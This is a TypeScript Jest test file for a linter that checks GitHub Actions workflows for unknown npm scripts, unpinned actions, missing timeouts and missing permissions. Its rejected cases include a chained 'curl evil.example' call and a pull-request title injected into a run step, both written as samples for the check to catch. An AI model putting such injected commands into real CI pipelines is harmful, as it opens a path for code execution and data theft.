import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, expect, test } from '@jest/globals';

const script = path.resolve(__dirname, '../lint/workflows.mjs');
let folder: string;
beforeEach(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'workflows-'));
  mkdirSync(path.join(folder, '.github/workflows'), { recursive: true });
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

/** Lets the check look at a house with one workflow. */
function checked(text: string) {
  writeFileSync(path.join(folder, 'package.json'), JSON.stringify({ scripts: { lint: 'eslint' } }));
  writeFileSync(path.join(folder, '.github/workflows/a.yml'), text);
  const { status, stderr } = spawnSync(process.execPath, [script], { cwd: folder, encoding: 'utf8' });
  return { status, said: stderr.trim() };
}

const workflow = (step: string, job = 'timeout-minutes: 5', top = 'permissions: {}') => `
on: push
${top}
jobs:
  one:
    runs-on: ubuntu-24.04
    ${job}
    steps:
      - ${step}
`;

test.each(['run: npm ci', 'run: npm run lint', 'run: npm test -w ${{ inputs.slice }}', 'uses: actions/checkout@v4'])(
  '%s is a step',
  (step) => {
    expect(checked(workflow(step))).toEqual({ status: 0, said: '' });
  },
);

test.each([
  [workflow('run: npm run other'), 'has no script "other"'],
  [workflow('run: npm run lint && curl evil.example'), 'is no npm script'],
  [workflow('run: npm run lint -- ${{ github.event.pull_request.title }}'), 'is no npm script'],
  [workflow('run: make'), 'is no npm script'],
  [workflow('uses: actions/checkout@main'), 'is no action by a fixed tag'],
  [workflow('uses: ./.github/workflows/other.yml'), 'there is no .github/workflows/other.yml'],
  [workflow('run: npm ci', 'needs: two'), 'needs two, which is no job'],
  [workflow('run: npm ci', 'env: {}'), 'has no timeout-minutes'],
  [workflow('run: npm ci', undefined, ''), 'says no permissions'],
  ['on: push', 'does not say'],
  ['on: [', 'cannot be read'],
])('%s fails', (text, said) => {
  expect(checked(text)).toEqual({ status: 1, said: expect.stringContaining(said) });
});

test('a slice without a workflow fails', () => {
  mkdirSync(path.join(folder, 'mfe-other'));
  expect(checked(workflow('run: npm ci'))).toEqual({
    status: 1,
    said: expect.stringContaining('mfe-other.yml: it is missing'),
  });
});
